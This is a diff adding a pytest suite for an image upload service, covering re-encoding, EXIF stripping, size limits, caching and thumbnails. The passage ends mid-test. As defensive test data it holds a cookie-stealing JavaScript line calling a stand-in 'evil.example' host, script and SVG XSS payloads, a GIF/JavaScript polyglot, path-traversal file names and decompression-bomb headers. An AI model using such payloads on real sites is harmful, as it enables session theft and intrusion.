@@ -1,0 +1,1302 @@
+"""Images (views/images_*): upload, checks and re-encoding, delivery, listing, deletion, quotas, sweep.
+
+Every image is made with Pillow right here; every test runs on SQLite and MariaDB.
+"""
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import hashlib
+import io
+import json
+import os
+import random
+import re
+import secrets
+import socket
+import struct
+import subprocess
+import sys
+import zlib
+from pathlib import Path
+from typing import Any
+
+import pytest
+from PIL import ExifTags, Image as PILImage, ImageCms, PngImagePlugin
+from sqlalchemy import func, select
+
+from demo.common import imaging
+from demo.models import Image, ImageBlob
+from demo.views import images_views
+
+gen_test = pytest.mark.gen_test(timeout=60)
+OTHER_PHONE = "18866669999"
+WIDTHS = ("160", "320", "640", "1280")
+IMAGE_KEYS = {"id", "url", "width", "height", "format", "bytes", "sha256", "created_at", "thumbnails"}
+IMMUTABLE = "public, max-age=31536000, immutable"
+KIB = 1024
+
+
+# -- images, made here -----------------------------------------------------------------------------
+
+
+def encode(im: PILImage.Image, fmt: str, **options: Any) -> bytes:
+    out = io.BytesIO()
+    im.save(out, fmt, **options)
+    return out.getvalue()
+
+
+def gradient(size: tuple[int, int]) -> PILImage.Image:
+    """Smooth, cheap, and not a flat colour (so resizing and re-encoding have something to do)."""
+    base = PILImage.linear_gradient("L").resize(size)
+    return PILImage.merge("RGB", (base, base.transpose(PILImage.Transpose.FLIP_LEFT_RIGHT), base.rotate(90)))
+
+
+def noise(size: tuple[int, int], seed: int = 1) -> PILImage.Image:
+    return PILImage.frombytes("RGB", size, random.Random(seed).randbytes(size[0] * size[1] * 3))
+
+
+def jpeg(size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
+    return encode(gradient(size), "JPEG", quality=90, **options)
+
+
+def png(size: tuple[int, int] = (64, 48)) -> bytes:
+    return encode(gradient(size), "PNG")
+
+
+def open_image(data: bytes) -> PILImage.Image:
+    im = PILImage.open(io.BytesIO(data))
+    im.load()
+    return im
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png_claiming(width: int, height: int) -> bytes:
+    """A small, well-formed PNG whose header claims ``width`` x ``height``."""
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr)
+            + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + png_chunk(b"IEND", b""))
+
+
+def gif_with_screen(width: int, height: int) -> bytes:
+    """A 1x1 GIF frame on a ``width`` x ``height`` logical screen."""
+    return (b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
+            + b",\x00\x00\x00\x00\x01\x00\x01\x00\x00" + b"\x02\x02\x44\x01\x00" + b";")
+
+
+def webp_canvas(width: int, height: int) -> bytes:
+    """A WebP whose extended header claims a ``width`` x ``height`` canvas, and nothing else."""
+    vp8x = (b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4
+            + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little"))
+    return b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x
+
+
+def gif_with_frames(n: int) -> bytes:
+    frames = [PILImage.new("P", (1, 1), i % 2) for i in range(n)]
+    for frame in frames:
+        frame.putpalette([0, 0, 0, 255, 255, 255])
+    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=10)
+
+
+# -- HTTP helpers ----------------------------------------------------------------------------------
+
+
+def multipart(data: bytes, *, filename: bytes | str = "x.jpg", part_type: str = "image/jpeg",
+              field: str = "image") -> tuple[bytes, str]:
+    """A multipart/form-data body built by hand, so tests control every byte of the file name."""
+    boundary = "----demo-" + secrets.token_hex(12)
+    name = filename.encode() if isinstance(filename, str) else filename
+    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"".encode()
+            + name + f"\"\r\nContent-Type: {part_type}\r\n\r\n".encode())
+    return head + data + f"\r\n--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"
+
+
+async def upload(api, token: str | None, data: bytes, *, filename: bytes | str = "x.jpg",
+                 content_type: str | None = None, raw: bool = False, headers: dict[str, str] | None = None):
+    headers = dict(headers or {})
+    if raw:
+        body = data
+        headers["Content-Type"] = content_type or "image/jpeg"
+    else:
+        part_type = content_type or "image/jpeg"
+        body, headers["Content-Type"] = multipart(data, filename=filename, part_type=part_type)
+    return await api.post("/images", body=body, token=token, headers=headers)
+
+
+async def uploaded(api, token: str, data: bytes, **kw: Any) -> dict[str, Any]:
+    """Upload, insist on 201, return the image object."""
+    response = await upload(api, token, data, **kw)
+    assert response.code == 201, response.body
+    return response.json["image"]
+
+
+def assert_error(response, status: int, code: str, field: str | None = None) -> None:
+    assert response.code == status, response.body
+    assert response.headers["Content-Type"].startswith("application/json")
+    assert response.error == code
+    if field is not None:
+        assert response.json["error"]["field"] == field
+
+
+def json_error(body: bytes) -> str:
+    return json.loads(body)["error"]["code"]
+
+
+def path_of(url: str) -> str:
+    return re.sub(r"^https?://[^/]+", "", url)
+
+
+async def fetch(api, url: str, **kw: Any):
+    return await api.get(path_of(url), **kw)
+
+
+async def second_user(api, outbox) -> str:
+    response = await api.register(outbox, phone=OTHER_PHONE)
+    assert response.code == 201, response.body
+    return response.json["token"]
+
+
+async def raw_http(port: int, head: bytes, chunks: list[bytes] = ()) -> tuple[int, dict[str, str], bytes]:
+    """Send ``head`` and ``chunks`` over a bare socket, then read until the server closes.
+
+    Low-level socket calls on purpose: data received before a reset is still read (asyncio's
+    StreamReader would drop it), and a server that answers early may refuse the rest of our body.
+    """
+    loop = asyncio.get_running_loop()
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.setblocking(False)
+    try:
+        await loop.sock_connect(sock, ("127.0.0.1", port))
+        with contextlib.suppress(ConnectionError):
+            await loop.sock_sendall(sock, head)
+            for chunk in chunks:
+                await loop.sock_sendall(sock, chunk)
+        received = b""
+        while True:
+            try:
+                data = await asyncio.wait_for(loop.sock_recv(sock, 65536), 30)
+            except ConnectionResetError:
+                break
+            if not data:
+                break
+            received += data
+    finally:
+        sock.close()
+    head_part, _, body = received.partition(b"\r\n\r\n")
+    lines = head_part.decode("latin-1").split("\r\n")
+    status = int(lines[0].split()[1])
+    headers = {}
+    for line in lines[1:]:
+        name, _, value = line.partition(":")
+        headers[name.strip().lower()] = value.strip()
+    if "content-length" in headers:
+        length = int(headers["content-length"])
+        assert len(body) == length, f"extra bytes after the response: {body[length:][:80]!r}"
+    return status, headers, body
+
+
+def chunked(data: bytes) -> bytes:
+    return f"{len(data):x}\r\n".encode() + data + b"\r\n"
+
+
+# -- disk and database -----------------------------------------------------------------------------
+
+
+def files(folder: Path) -> list[Path]:
+    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []
+
+
+def media(app) -> Path:
+    return Path(app.services.store.root)
+
+
+def count(app, model) -> int:
+    return app.services.db.run_sync(lambda s: s.scalar(select(func.count()).select_from(model)))
+
+
+def blob_refs(app, sha256: str) -> int | None:
+    query = select(ImageBlob.refs).where(ImageBlob.sha256 == sha256)
+    return app.services.db.run_sync(lambda s: s.scalar(query))
+
+
+def assert_nothing_stored(app) -> None:
+    assert files(media(app) / "tmp") == []
+    assert files(media(app) / "blobs") == []
+    assert files(media(app) / "thumbs") == []
+    assert count(app, Image) == 0 and count(app, ImageBlob) == 0
+
+
+def assert_no_temp_files(app) -> None:
+    assert files(media(app) / "tmp") == []
+
+
+# -- upload: the response contract -----------------------------------------------------------------
+
+
+@gen_test
+async def test_multipart_upload_answers_201_with_the_image_object_and_location(api, user, app, base_url):
+    data = jpeg((64, 48))
+    response = await upload(api, user.token, data)
+    assert response.code == 201, response.body
+    image = response.json["image"]
+    assert set(response.json) == {"image"} and set(image) == IMAGE_KEYS
+    assert image["format"] == "jpeg" and (image["width"], image["height"]) == (64, 48)
+    assert re.fullmatch(r"[A-Za-z0-9_-]{22,}", image["id"])  # >= 128 bits, URL-safe
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", image["created_at"])
+    assert image["url"] == f"{base_url}/images/{image['id']}.jpg"
+    assert response.headers["Location"] == image["url"]
+    assert image["thumbnails"] == {w: f"{image['url']}?w={w}" for w in WIDTHS}
+    assert response.headers["Content-Type"].startswith("application/json")
+
+    served = await fetch(api, image["url"])
+    assert served.code == 200
+    assert image["sha256"] == hashlib.sha256(served.body).hexdigest()
+    assert image["bytes"] == len(served.body)
+    assert count(app, Image) == 1 and count(app, ImageBlob) == 1
+    assert_no_temp_files(app)
+
+
+@gen_test
+async def test_raw_body_upload_is_accepted(api, user, app):
+    data = png((30, 20))
+    image = await uploaded(api, user.token, data, raw=True, content_type="image/png")
+    assert image["format"] == "png" and image["url"].endswith(".png")
+    assert (image["width"], image["height"]) == (30, 20)
+    served = await fetch(api, image["url"])
+    assert served.code == 200 and hashlib.sha256(served.body).hexdigest() == image["sha256"]
+    assert_no_temp_files(app)
+
+
+@gen_test
+async def test_ids_are_unique_and_unguessable(api, user):
+    data = jpeg()
+    ids = {(await uploaded(api, user.token, data))["id"] for _ in range(3)}
+    assert len(ids) == 3
+
+
+@gen_test
+async def test_urls_follow_the_scheme_and_host_the_client_used_through_the_proxy(api, user):
+    headers = {"X-Forwarded-Proto": "https", "Host": "photos.example.com"}
+    response = await upload(api, user.token, jpeg(), headers=headers)
+    assert response.code == 201, response.body
+    image = response.json["image"]
+    assert image["url"] == f"https://photos.example.com/images/{image['id']}.jpg"
+    assert response.headers["Location"] == image["url"]
+    assert all(url.startswith("https://photos.example.com/images/") for url in image["thumbnails"].values())
+
+    listed = await api.get("/images", token=user.token, headers=headers)
+    assert listed.json["images"][0]["url"] == image["url"]
+
+
+@pytest.mark.settings(public_url="https://cdn.example.com/")
+@gen_test
+async def test_public_url_setting_wins_over_the_request_host(api, user):
+    response = await upload(api, user.token, jpeg(), headers={"Host": "internal:8000"})
+    image = response.json["image"]
+    assert image["url"] == f"https://cdn.example.com/images/{image['id']}.jpg"
+    assert image["thumbnails"]["160"] == f"https://cdn.example.com/images/{image['id']}.jpg?w=160"
+    assert response.headers["Location"] == image["url"]
+
+
+# -- upload: formats and re-encoding ---------------------------------------------------------------
+
+
+@gen_test
+async def test_jpeg_with_gps_and_orientation_6_is_stored_upright_without_exif(api, user):
+    exif = PILImage.Exif()
+    exif[ExifTags.Base.Orientation] = 6
+    exif[ExifTags.Base.Make] = "PhoneCo"
+    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
+    gps.update({1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 0.0)})
+    data = jpeg((80, 40), exif=exif, comment=b"secret comment")
+    original = open_image(data)
+    assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test image really carries GPS
+
+    image = await uploaded(api, user.token, data)
+    assert (image["width"], image["height"]) == (40, 80)  # orientation applied: upright
+    served = (await fetch(api, image["url"])).body
+    stored = open_image(served)
+    assert stored.size == (40, 80)
+    assert dict(stored.getexif()) == {}
+    assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
+    assert "exif" not in stored.info and "comment" not in stored.info
+    assert b"PhoneCo" not in served and b"secret comment" not in served
+
+
+@gen_test
+async def test_png_alpha_is_kept(api, user):
+    im = PILImage.new("RGBA", (50, 40), (255, 0, 0, 0))
+    im.putpixel((5, 5), (0, 255, 0, 128))
+    image = await uploaded(api, user.token, encode(im, "PNG"), content_type="image/png")
+    stored = open_image((await fetch(api, image["url"])).body)
+    assert image["format"] == "png" and stored.mode == "RGBA"
+    assert stored.getpixel((5, 5)) == (0, 255, 0, 128) and stored.getpixel((0, 0))[3] == 0
+
+
+@gen_test
+async def test_animated_gif_keeps_its_frames(api, user):
+    frames = [PILImage.new("P", (40, 30), i) for i in range(3)]
+    for frame in frames:
+        frame.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255] * 64)
+    data = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=120, loop=0)
+    image = await uploaded(api, user.token, data, content_type="image/gif")
+    assert image["format"] == "gif" and image["url"].endswith(".gif")
+    stored = open_image((await fetch(api, image["url"])).body)
+    assert stored.format == "GIF" and stored.n_frames == 3
+
+
+@gen_test
+async def test_webp_is_accepted(api, user):
+    image = await uploaded(api, user.token, encode(gradient((48, 32)), "WEBP"), content_type="image/webp")
+    assert image["format"] == "webp" and image["url"].endswith(".webp")
+    served = await fetch(api, image["url"])
+    assert served.headers["Content-Type"] == "image/webp"
+    assert open_image(served.body).size == (48, 32)
+
+
+@gen_test
+async def test_cmyk_jpeg_is_accepted_and_served_as_rgb(api, user):
+    data = encode(PILImage.new("CMYK", (40, 30), (0, 100, 200, 10)), "JPEG")
+    assert open_image(data).mode == "CMYK"
+    image = await uploaded(api, user.token, data)
+    stored = open_image((await fetch(api, image["url"])).body)
+    assert image["format"] == "jpeg" and stored.mode == "RGB" and stored.size == (40, 30)
+
+
+@gen_test
+async def test_16_bit_png_is_accepted(api, user):
+    im = PILImage.new("I;16", (60, 40))
+    im.putdata([(i * 37) % 65536 for i in range(60 * 40)])
+    data = encode(im, "PNG")
+    assert open_image(data).mode.startswith("I;16")
+    image = await uploaded(api, user.token, data, content_type="image/png")
+    assert image["format"] == "png" and (image["width"], image["height"]) == (60, 40)
+    assert open_image((await fetch(api, image["url"])).body).size == (60, 40)
+
+
+@gen_test
+async def test_icc_profile_is_kept(api, user):
+    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    data = jpeg((64, 48), icc_profile=icc)
+    assert open_image(data).info["icc_profile"] == icc
+    image = await uploaded(api, user.token, data)
+    assert open_image((await fetch(api, image["url"])).body).info.get("icc_profile") == icc
+
+
+@gen_test
+async def test_script_appended_after_a_valid_jpeg_is_cut_off_by_re_encoding(api, user):
+    data = jpeg() + b"<script>alert(document.cookie)</script>"
+    image = await uploaded(api, user.token, data)
+    served = (await fetch(api, image["url"])).body
+    assert b"<script" not in served and served.endswith(b"\xff\xd9")
+    assert image["sha256"] != hashlib.sha256(data).hexdigest()
+    assert open_image(served).size == (64, 48)
+
+
+@gen_test
+async def test_the_content_decides_the_format_not_the_content_type_or_name(api, user):
+    image = await uploaded(api, user.token, png(), raw=True, content_type="image/gif")
+    assert image["format"] == "png" and image["url"].endswith(".png")
+    image = await uploaded(api, user.token, jpeg(), filename="photo.png", content_type="image/png")
+    assert image["format"] == "jpeg" and image["url"].endswith(".jpg")
+
+
+# -- hostile uploads: 4xx, and nothing left on disk or in the database -----------------------------
+
+HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
+JAVASCRIPT = b"fetch('https://evil.example/?c=' + document.cookie);\n"
+SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+       b'<script>alert(1)</script></svg>')
+
+
+@pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
+@pytest.mark.parametrize("body", [HTML, JAVASCRIPT, SVG], ids=["html", "javascript", "svg"])
+@gen_test
+async def test_non_images_named_jpg_are_415(api, user, app, body, raw):
+    response = await upload(api, user.token, body, filename="cute.jpg", content_type="image/jpeg", raw=raw)
+    assert response.code == 415 and response.error == "unsupported_media_type"
+    assert_nothing_stored(app)
+
+
+@pytest.mark.parametrize("content_type", ["text/html", "application/javascript", "image/svg+xml; charset=utf-8",
+                                          "application/octet-stream", "text/plain", ""],
+                         ids=["html", "javascript", "svg", "octet-stream", "text", "none"])
+@gen_test
+async def test_raw_bodies_must_be_images_by_content(api, user, app, content_type):
+    body = SVG if "svg" in content_type else HTML
+    response = await api.post("/images", body=body, token=user.token, headers={"Content-Type": content_type})
+    assert response.code == 415 and response.error == "unsupported_media_type"
+    assert_nothing_stored(app)
+
+
+@pytest.mark.parametrize("make, why", [
+    (lambda: jpeg((64, 48))[:300], "truncated jpeg"),
+    (lambda: jpeg((64, 48))[:-200], "jpeg missing its end"),
+    (lambda: b"\xff\xd8\xff\xe0" + os.urandom(2000), "jpeg magic, garbage after"),
+    (lambda: png()[:60], "truncated png"),
+    (lambda: b"GIF89a/*" + JAVASCRIPT + b"*/", "gif/javascript polyglot"),
+    (lambda: png_claiming(50000, 50000), "png header claims 50000x50000"),
+    (lambda: gif_with_screen(65535, 65535), "gif with a huge logical screen"),
+    (lambda: webp_canvas(16384, 16384), "webp canvas claims 16384x16384"),
+    (lambda: gif_with_frames(1001), "gif with 1001 frames"),
+], ids=lambda v: v if isinstance(v, str) else "")
+@gen_test
+async def test_corrupt_truncated_or_oversized_images_are_422(api, user, app, make, why):
+    response = await upload(api, user.token, make())
+    assert response.code == 422 and response.error == "invalid_image", (why, response.body)
+    assert response.json["error"]["field"] == "image"
+    assert_nothing_stored(app)
+
+
+@pytest.mark.settings(max_image_pixels=100 * 100)
+@gen_test
+async def test_pixel_limit_is_a_setting(api, user, app):
+    response = await upload(api, user.token, jpeg((101, 100)))
+    assert response.code == 422 and response.error == "invalid_image"
+    assert_nothing_stored(app)
+    assert (await upload(api, user.token, jpeg((100, 100)))).code == 201
+
+
+@pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
+@gen_test
+async def test_empty_body_is_422(api, user, app, raw):
+    response = await upload(api, user.token, b"", raw=raw)
+    assert response.code == 422 and response.error == "invalid_image"
+    assert_nothing_stored(app)
+
+
+@pytest.mark.parametrize("body, why", [
+    (b"--nope\r\nnot a multipart body at all", "garbage"),
+    (b"", "no parts"),
+], ids=["garbage", "no-parts"])
+@gen_test
+async def test_malformed_multipart_is_422(api, user, app, body, why):
+    response = await api.post("/images", body=body, token=user.token,
+                              headers={"Content-Type": "multipart/form-data; boundary=abc"})
+    assert response.code == 422 and response.error == "invalid_field", why
+    assert_nothing_stored(app)
+
+
+@gen_test
+async def test_multipart_without_the_image_field_is_422(api, user, app):
+    body, content_type = multipart(jpeg(), field="photo")
+    response = await api.post("/images", body=body, token=user.token, headers={"Content-Type": content_type})
+    assert_error(response, 422, "invalid_field", "image")
+    assert_nothing_stored(app)
+
+
+HOSTILE_NAMES = [b"../../escaped.jpg", b"..%2f..%2fescaped.jpg", b"x.jpg\x00.html", b"/etc/passwd",
+                 b"..\\..\\escaped.jpg"]
+
+
+@pytest.mark.parametrize("filename", HOSTILE_NAMES, ids=["dotdot", "encoded", "nul", "absolute", "backslash"])
+@gen_test
+async def test_hostile_file_names_carrying_html_are_415_and_touch_nothing(api, user, app, tmp_path, filename):
+    response = await upload(api, user.token, HTML, filename=filename)
+    assert response.code == 415 and response.error == "unsupported_media_type"
+    assert_nothing_stored(app)
+    assert not list(tmp_path.rglob("escaped*"))
+
+
+@pytest.mark.parametrize("filename", HOSTILE_NAMES, ids=["dotdot", "encoded", "nul", "absolute", "backslash"])
+@gen_test
+async def test_hostile_file_names_are_never_used(api, user, app, tmp_path, filename):
+    """The client's name plays no part: a real image is stored under its content hash, and only there."""
+    response = await upload(api, user.token, jpeg(), filename=filename)
+    assert response.code == 201, response.body
+    image = response.json["image"]
+    assert b"escaped" not in response.body and b"passwd" not in response.body
+    assert files(media(app) / "blobs") == [Path(app.services.store.local_path(image["sha256"]))]
+    assert not list(tmp_path.rglob("escaped*"))
+    assert_no_temp_files(app)
+
+
+# -- size limits: 413 up front and mid-stream ------------------------------------------------------
+
+LIMIT = 64 * KIB
+
+
+def request_head(token: str, content_type: str, *, length: int | None = None, extra: str = "") -> bytes:
+    framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
+    return (f"POST /images HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n"
+            f"Content-Type: {content_type}\r\n{framing}\r\n{extra}\r\n").encode()
+
+
+async def assert_handlers_end() -> None:
+    """Every request handler coroutine finishes once its connection is gone (none left waiting forever
+    for a body that will never come)."""
+    running = [task for task in asyncio.all_tasks() if task is not asyncio.current_task()
+               and getattr(task.get_coro(), "__qualname__", "") == "RequestHandler._execute"]
+    if running:
+        _, pending = await asyncio.wait(running, timeout=10)
+        assert not pending, pending
+
+
+@pytest.mark.settings(max_upload_bytes=LIMIT)
+@pytest.mark.parametrize("content_type", ["image/jpeg", "multipart/form-data; boundary=abc"],
+                         ids=["raw", "multipart"])
+@gen_test
+async def test_declared_length_over_the_limit_is_413_before_the_body(app, user, http_port, content_type):
+    head = request_head(user.token, content_type, length=10 * 1024 * 1024)
+    status, headers, body = await raw_http(http_port, head)  # no body sent: the answer cannot wait for it
+    assert status == 413 and headers["content-type"].startswith("application/json")
+    assert json_error(body) == "too_large"
+    assert_nothing_stored(app)
+
+
+@pytest.mark.settings(max_upload_bytes=LIMIT)
+@pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
+@gen_test
+async def test_body_over_the_limit_is_413(api, user, app, raw):
+    data = b"\xff\xd8\xff\xe0" + os.urandom(LIMIT + 20 * KIB)
+    response = await upload(api, user.token, data, raw=raw)
+    assert response.code == 413 and response.error == "too_large"
+    assert_nothing_stored(app)
+
+
+@pytest.mark.settings(max_upload_bytes=LIMIT)
+@gen_test
+async def test_file_just_at_the_limit_passes_the_size_check(api, user, app):
+    data = jpeg((16, 16))
+    data += b"\x00" * (LIMIT - len(data))  # trailing bytes after the JPEG end: cut by re-encoding
+    response = await upload(api, user.token, data)
+    assert response.code == 201, response.body
+    response = await upload(api, user.token, data + b"\x00")
+    assert response.code == 413
+
+
+@pytest.mark.settings(max_upload_bytes=LIMIT)
+@pytest.mark.parametrize("kind", ["raw", "multipart"])
+@gen_test
+async def test_chunked_body_over_the_limit_is_413_mid_stream(app, user, http_port, kind):
+    """The server answers 413 as soon as the limit is passed, closes, and the temp file is gone."""
+    if kind == "raw":
+        head, prefix = request_head(user.token, "image/jpeg"), b""
+    else:
+        prefix, _ = multipart(b"")
+        boundary = prefix.split(b"\r\n", 1)[0][2:].decode()
+        prefix = prefix.split(b"\r\n\r\n", 1)[0] + b"\r\n\r\n"  # part headers only; the file follows
+        head = request_head(user.token, f"multipart/form-data; boundary={boundary}")
+    data = prefix + b"\xff\xd8\xff\xe0" + os.urandom(LIMIT + 40 * KIB)
+    pieces = [chunked(data[i:i + 8 * KIB]) for i in range(0, len(data), 8 * KIB)]  # never the final 0 chunk
+    status, headers, body = await raw_http(http_port, head, pieces)
+    assert status == 413 and headers["content-type"].startswith("application/json")
+    assert json_error(body) == "too_large"
+    assert_nothing_stored(app)
+    await assert_handlers_end()
+
+
+@gen_test
+async def test_chunked_upload_within_the_limit_is_stored(app, user, http_port):
+    data = jpeg((40, 30))
+    pieces = [chunked(data[i:i + 100]) for i in range(0, len(data), 100)] + [b"0\r\n\r\n"]
+    head = request_head(user.token, "image/jpeg", extra="Connection: close\r\n")
+    status, _, body = await raw_http(http_port, head, pieces)
+    assert status == 201, body
+    assert count(app, Image) == 1
+    assert_no_temp_files(app)
+
+
+@gen_test
+async def test_client_going_away_mid_upload_leaves_no_temp_file(app, user, http_port, monkeypatch):
+    written = asyncio.Event()
+    original = images_views.ImagesHandler.data_received
+
+    async def data_received(self, chunk: bytes) -> None:
+        await original(self, chunk)
+        written.set()
+
+    monkeypatch.setattr(images_views.ImagesHandler, "data_received", data_received)
+    loop = asyncio.get_running_loop()
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.setblocking(False)
+    try:
+        await loop.sock_connect(sock, ("127.0.0.1", http_port))
+        await loop.sock_sendall(sock, request_head(user.token, "image/jpeg", length=200 * KIB) + jpeg()[:500])
+        await asyncio.wait_for(written.wait(), 10)
+        assert len(files(media(app) / "tmp")) == 1  # the upload in progress
+    finally:
+        sock.close()
+    await assert_handlers_end()
+    assert_nothing_stored(app)
+
+
+# -- delivery: headers, 304, Range, 404 ------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt, mime", [("jpeg", "image/jpeg"), ("png", "image/png"), ("gif", "image/gif"),
+                                       ("webp", "image/webp")])
+@gen_test
+async def test_delivery_headers(api, user, fmt, mime):
+    data = encode(gradient((40, 30)).convert("P") if fmt == "gif" else gradient((40, 30)), fmt.upper())
+    image = await uploaded(api, user.token, data, content_type=mime)
+    served = await fetch(api, image["url"])  # no token: image URLs are public (unguessable ids)
+    assert served.code == 200
+    assert served.headers["Content-Type"] == mime
+    assert served.headers["ETag"] == f'"{image["sha256"]}"'
+    assert served.headers["Cache-Control"] == IMMUTABLE
+    assert served.headers["X-Content-Type-Options"] == "nosniff"
+    assert served.headers["Content-Security-Policy"] == "sandbox"
+    assert int(served.headers["Content-Length"]) == image["bytes"] == len(served.body)
+    assert hashlib.sha256(served.body).hexdigest() == image["sha256"]
+
+
+@gen_test
+async def test_if_none_match_gives_304(api, user):
+    image = await uploaded(api, user.token, jpeg())
+    etag = f'"{image["sha256"]}"'
+    for header in (etag, f'"other", {etag}', f"W/{etag}", "*"):
+        response = await fetch(api, image["url"], headers={"If-None-Match": header})
+        if header == "*":
+            assert response.code in (200, 304)
+            continue
+        assert response.code == 304, header
+        assert response.body == b"" and response.headers["ETag"] == etag
+        assert response.headers["Cache-Control"] == IMMUTABLE
+    response = await fetch(api, image["url"], headers={"If-None-Match": '"something-else"'})
+    assert response.code == 200 and response.body
+
+
+@gen_test
+async def test_range_requests(api, user):
+    image = await uploaded(api, user.token, jpeg((120, 90)))
+    full = (await fetch(api, image["url"])).body
+    size = len(full)
+    assert size > 200
+
+    first = await fetch(api, image["url"], headers={"Range": "bytes=0-99"})
+    assert first.code == 206 and first.body == full[:100]
+    assert first.headers["Content-Range"] == f"bytes 0-99/{size}"
+    assert first.headers["Content-Length"] == "100"
+    assert first.headers["ETag"] == f'"{image["sha256"]}"'
+
+    suffix = await fetch(api, image["url"], headers={"Range": "bytes=-50"})
+    assert suffix.code == 206 and suffix.body == full[-50:]
+    assert suffix.headers["Content-Range"] == f"bytes {size - 50}-{size - 1}/{size}"
+
+    open_ended = await fetch(api, image["url"], headers={"Range": "bytes=100-"})
+    assert open_ended.code == 206 and open_ended.body == full[100:]
+
+    past_end = await fetch(api, image["url"], headers={"Range": f"bytes={size - 10}-{size + 1000}"})
+    assert past_end.code == 206 and past_end.body == full[-10:]
+
+    huge_suffix = await fetch(api, image["url"], headers={"Range": f"bytes=-{size + 1000}"})
+    assert huge_suffix.code == 206 and huge_suffix.body == full
+
+    for header in (f"bytes={size}-", f"bytes={size + 5}-{size + 10}", "bytes=-0"):
+        outside = await fetch(api, image["url"], headers={"Range": header})
+        assert outside.code == 416, header
+        assert outside.error == "range_not_satisfiable"
+        assert outside.headers["Content-Range"] == f"bytes */{size}"
+        assert outside.headers["Content-Type"].startswith("application/json")
+
+    ignored = await fetch(api, image["url"], headers={"Range": "lines=1-2"})
+    assert ignored.code == 200 and ignored.body == full
+
+
+@gen_test
+async def test_head_gives_the_headers_without_the_body(api, user):
+    image = await uploaded(api, user.token, jpeg())
+    response = await api.request("HEAD", path_of(image["url"]))
+    assert response.code == 200 and response.body == b""
+    assert response.headers["ETag"] == f'"{image["sha256"]}"'
+    assert int(response.headers["Content-Length"]) == image["bytes"]
+
+
+@gen_test
+async def test_unknown_ids_and_wrong_extensions_are_404(api, user):
+    image = await uploaded(api, user.token, jpeg())
+    base = path_of(image["url"])[: -len(".jpg")]
+    for path in (base + ".png", base + ".gif", base + ".webp", base + ".jpeg", base + ".JPG",
+                 "/images/" + secrets.token_urlsafe(16) + ".jpg", "/images/short.jpg",
+                 "/images/" + "a" * 200 + ".jpg", base + ".jpg/extra"):
+        response = await api.get(path)
+        assert response.code == 404, path
+        assert_error(response, 404, "not_found")
+
+
+# -- thumbnails ------------------------------------------------------------------------------------
+
+
+@gen_test
+async def test_thumbnails_have_the_asked_width(api, user, app):
+    image = await uploaded(api, user.token, jpeg((1600, 1000)))
+    original = (await fetch(api, image["url"])).body
+    etags = set()
+    for width in WIDTHS:
+        response = await fetch(api, image["thumbnails"][width])
+        assert response.code == 200, width
+        thumb = open_image(response.body)
+        assert thumb.format == "JPEG" and thumb.size == (int(width), round(1000 * int(width) / 1600))
+        assert response.headers["Content-Type"] == "image/jpeg"
+        assert response.headers["Cache-Control"] == IMMUTABLE
+        assert response.headers["Content-Security-Policy"] == "sandbox"
+        assert response.body != original
+        etag = response.headers["ETag"]
+        assert etag.startswith('"') and not etag.startswith("W/") and etag != f'"{image["sha256"]}"'
+        etags.add(etag)
+        again = await fetch(api, image["thumbnails"][width], headers={"If-None-Match": etag})
+        assert again.code == 304
+        ranged = await fetch(api, image["thumbnails"][width], headers={"Range": "bytes=0-9"})
+        assert ranged.code == 206 and ranged.body == response.body[:10]
+    assert len(etags) == 4
+    assert len(files(media(app) / "thumbs")) == 4
+
+
+@gen_test
+async def test_thumbnails_never_upscale(api, user, app):
+    image = await uploaded(api, user.token, jpeg((200, 100)))
+    original = await fetch(api, image["url"])
+    small = await fetch(api, image["thumbnails"]["160"])
+    assert open_image(small.body).size == (160, 80)
+    for width in ("320", "640", "1280"):
+        response = await fetch(api, image["thumbnails"][width])
+        assert response.code == 200 and response.body == original.body
+        assert response.headers["ETag"] == original.headers["ETag"]
+    assert len(files(media(app) / "thumbs")) == 1
+
+
+@pytest.mark.parametrize("width", ["100", "0", "-160", "abc", "2000", "160.0", "", "1600", "1e3"])
+@gen_test
+async def test_other_widths_are_422(api, user, width):
+    image = await uploaded(api, user.token, jpeg())
+    response = await fetch(api, f"{image['url']}?w={width}")
+    assert_error(response, 422, "invalid_field", "w")
+
+
+@pytest.mark.parametrize("kind", ["png-alpha", "gif-animated", "webp", "png-16-bit"])
+@gen_test
+async def test_thumbnails_keep_format_alpha_and_animation(api, user, kind):
